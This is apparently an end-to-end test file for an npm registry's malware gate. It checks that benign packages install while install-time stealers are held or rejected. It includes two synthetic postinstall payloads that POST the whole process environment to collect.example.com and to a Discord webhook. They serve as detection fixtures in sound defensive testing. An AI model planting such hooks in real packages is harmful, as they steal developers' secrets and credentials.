// The gate seen through the real npm client: malicious uploads are accepted but never installable; benign ones install.
import { existsSync, readFileSync } from 'node:fs'
import { join } from 'node:path'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { startListeningRegistry, type ListeningRegistry } from '../helpers/server.ts'
import { npmWorkspace, type NpmWorkspace } from '../helpers/npm-client.ts'

/** Synthetic install-time stealers. They only ever target reserved example hosts, and installs use --ignore-scripts. */
const STEAL_TO_HOST = `const https = require('https')
const req = https.request({ hostname: 'collect.example.com', path: '/e', method: 'POST' })
req.write(JSON.stringify(process.env))
req.end()
`
const STEAL_TO_WEBHOOK = `const https = require('https')
const req = https.request('https://discord.com/api/webhooks/123456/abcdef', { method: 'POST' })
req.write(JSON.stringify(process.env))
req.end()
`

interface ScanView {
  state: string
  scans: { verdict: string; signals: { rule: string; weight: number; file?: string }[] }[]
}

describe('the gate with the real npm client (sqlite)', () => {
  let r: ListeningRegistry
  let ws: NpmWorkspace
  let publisher: string
  let stranger: string
  /** What `npm publish` said for each first upload (benign, stealer, webhook stealer, takeover 1.0.0). */
  let uploads: { code: number; out: string }[]

  beforeAll(async () => {
    r = await startListeningRegistry('sqlite')
    publisher = await r.user('alice')
    stranger = await r.user('mallory')
    ws = npmWorkspace(r.url, publisher, 'gate')
    const { npm, fixture } = ws
    uploads = await Promise.all([
      npm(['publish'], fixture('benign', 'gate-e2e-benign', '1.0.0', { 'lib.js': 'module.exports = (a, b) => a + b\n' })),
      npm(['publish', '--ignore-scripts'], fixture('stealer', 'gate-e2e-stealer', '1.0.0', { 'setup.js': STEAL_TO_HOST }, { postinstall: 'node setup.js' })),
      npm(['publish', '--ignore-scripts'], fixture('webhook', 'gate-e2e-webhook', '1.0.0', { 'setup.js': STEAL_TO_WEBHOOK }, { postinstall: 'node setup.js' })),
      npm(['publish'], fixture('takeover-1', 'gate-e2e-takeover', '1.0.0', {})),
    ])
    await r.settle()
  }, 240_000)

  afterAll(async () => {
    await r?.close()
    ws?.cleanup()
  })

  async function scan(name: string, version: string, token = publisher): Promise<{ status: number; body: ScanView }> {
    const res = await fetch(`${r.url}-/api/v1/scans?ecosystem=npm&name=${name}&version=${version}`, { headers: { authorization: `Bearer ${token}` } })
    return { status: res.status, body: (await res.json()) as ScanView }
  }

  const weighted = (view: ScanView) => view.scans[0]!.signals.filter((s) => s.weight > 0).map((s) => s.rule).sort()

  it('accepts every upload, then publishes the benign one and holds or rejects the stealers', async () => {
    // npm reports success only on 201 Created: the gate judges after the upload
    for (const p of uploads) expect(p.code, p.out).toBe(0)
    expect(uploads.map((p) => /\+ (gate-e2e-[a-z]+)@1\.0\.0/.exec(p.out)?.[1])).toEqual(['gate-e2e-benign', 'gate-e2e-stealer', 'gate-e2e-webhook', 'gate-e2e-takeover'])

    expect((await scan('gate-e2e-benign', '1.0.0')).body).toMatchObject({ state: 'published', scans: [{ verdict: 'publish' }] })
    const held = (await scan('gate-e2e-stealer', '1.0.0')).body
    expect(held).toMatchObject({ state: 'held', scans: [{ verdict: 'hold' }] })
    expect(weighted(held)).toEqual(['exfiltrates-environment', 'install-time-network'])
    expect(held.scans[0]!.signals.find((s) => s.rule === 'exfiltrates-environment')?.file).toBe('setup.js')
    const rejected = (await scan('gate-e2e-webhook', '1.0.0')).body
    expect(rejected).toMatchObject({ state: 'rejected', scans: [{ verdict: 'reject' }] })
    expect(weighted(rejected)).toEqual(['exfiltrates-environment', 'exfiltration-endpoint', 'install-time-network'])
  })

  it('installs the benign package in a fresh project', async () => {
    const dir = ws.project()
    const res = await ws.npm(['install', 'gate-e2e-benign'], dir)
    expect(res.code, res.out).toBe(0)
    expect(existsSync(join(dir, 'node_modules', 'gate-e2e-benign', 'lib.js'))).toBe(true)
  }, 120_000)

  it.each(['gate-e2e-stealer', 'gate-e2e-webhook'])('cannot install %s: the registry does not know it', async (name) => {
    const dir = ws.project()
    const res = await ws.npm(['install', name, '--ignore-scripts'], dir)
    expect(res.code).not.toBe(0)
    expect(res.out).toMatch(/code E404/)
    expect(existsSync(join(dir, 'node_modules', name))).toBe(false)
  }, 120_000)

  it('holds a malicious new version: installing it fails with ETARGET and the old version still installs', async () => {
    const upload = await ws.npm(['publish', '--ignore-scripts'], ws.fixture('takeover-2', 'gate-e2e-takeover', '1.0.1', { 'setup.js': STEAL_TO_HOST }, { postinstall: 'node setup.js' }))
    expect(upload.code, upload.out).toBe(0)
    await r.settle()
    expect((await scan('gate-e2e-takeover', '1.0.1')).body.state).toBe('held')

    const pinned = ws.project()
    const bad = await ws.npm(['install', 'gate-e2e-takeover@1.0.1', '--ignore-scripts'], pinned)
    expect(bad.code).not.toBe(0)
    expect(bad.out).toMatch(/code ETARGET/)
    expect(existsSync(join(pinned, 'node_modules', 'gate-e2e-takeover'))).toBe(false)

    const latest = ws.project()
    const good = await ws.npm(['install', 'gate-e2e-takeover', '--ignore-scripts'], latest)
    expect(good.code, good.out).toBe(0)
    expect(JSON.parse(readFileSync(join(latest, 'node_modules', 'gate-e2e-takeover', 'package.json'), 'utf8')).version).toBe('1.0.0')
  }, 120_000)

  it('shows the scans to the publisher and not to another user', async () => {
    for (const name of ['gate-e2e-benign', 'gate-e2e-stealer', 'gate-e2e-webhook']) {
      const { status, body } = await scan(name, '1.0.0')
      expect(status, name).toBe(200)
      expect(body.scans, name).toHaveLength(1)
    }
    expect((await scan('gate-e2e-stealer', '1.0.0', stranger)).status).toBe(403)
  })
})
